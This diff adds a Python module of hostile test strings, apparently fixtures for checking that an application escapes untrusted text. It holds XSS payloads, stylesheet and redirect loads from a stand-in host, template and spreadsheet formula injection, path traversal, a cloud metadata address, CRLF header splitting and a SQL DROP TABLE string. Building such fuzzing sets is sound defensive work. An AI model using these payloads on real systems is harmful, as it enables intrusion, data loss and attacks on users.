@@ -1,0 +1,73 @@
+"""Texts that try to become something else: script, markup, templates, addresses, formulas."""
+
+from __future__ import annotations
+
+__all__ = ["HOSTILE", "MARK"]
+
+MARK = "window.taken=1"
+
+_CODE = [
+    f"<script>{MARK}</script>",
+    f"<ScRiPt>{MARK}</sCrIpT >",
+    f"<img src=x onerror={MARK}>",
+    f"<svg onload={MARK}>",
+    f"<svg><script>{MARK}</script></svg>",
+    f"<body onload={MARK}>",
+    f"<iframe srcdoc='<script>parent.{MARK}</script>'>",
+    f"<details open ontoggle={MARK}>x</details>",
+    f"<input autofocus onfocus={MARK}>",
+    f"<video><source onerror={MARK}></video>",
+    f"<a href='javascript:{MARK}'>open</a>",
+    f"<form action='javascript:{MARK}'><button>go</button></form>",
+    f"<math><mtext></form><form><mglyph><style></math><img src onerror={MARK}>",
+    f"<style>@import 'http://evil.example/{MARK}';</style>",
+    "<link rel=stylesheet href=http://evil.example/a.css>",
+    "<base href=http://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
+    f"<object data='javascript:{MARK}'></object>",
+    f"<embed src='javascript:{MARK}'>",
+    f"<div hx-get='http://evil.example/' hx-trigger='load' hx-on::load='{MARK}'>x</div>",
+    f"<template><script>{MARK}</script></template>",
+    f"&lt;script&gt;{MARK}&lt;/script&gt;",
+    f"&#60;script&#62;{MARK}&#60;/script&#62;",
+    f"\\u003cscript\\u003e{MARK}\\u003c/script\\u003e",
+    f"%3Cscript%3E{MARK}%3C/script%3E",
+    f"javascript:{MARK}",
+    f"data:text/html,<script>{MARK}</script>",
+    f"vbscript:{MARK}",
+    "{{7*7}}{{config}}{{request.app}}",
+    "{% for x in range(9) %}a{% endfor %}{# note #}",
+    "${7*7}#{7*7}<%= 7*7 %>",
+    '=HYPERLINK("http://evil.example/","open")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "\u202egnp.exe\u202c",
+    "\u2066\u2067hidden\u2069\u2069",
+    "\u200f\u200eleft",
+    "\x1b[31mred\x1b[0m\x07\x9b2J",
+    "nul\x00byte\x08\x0b\x0c\x1f\x7f\x85",
+    "\ud800 alone \udfff".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
+    "</title></textarea></style></script><h1>out</h1>",
+    "--><!--><![CDATA[x]]>",
+    "http://169.254.169.254/latest/meta-data",
+    "../../../../etc/passwd",
+    "\r\nSet-Cookie: taken=1\r\n\r\n<p>split",
+    "' OR 1=1; DROP TABLE papers; --",
+    "ＳＣＲＩＰＴ＜script＞" + MARK,
+    "Ω" * 50 + "\u0301" * 200,
+]
+_AROUND = [
+    "{}",
+    '">{}',
+    "'>{}",
+    "</p></mark></a>{}",
+    "`{}`",
+    '" {} "',
+    "' onmouseover='" + MARK + "' {}",
+    "\n{}\n",
+    "<{}>",
+    "&{};",
+]
+HOSTILE = tuple(around.format(code) for around in _AROUND for code in _CODE)
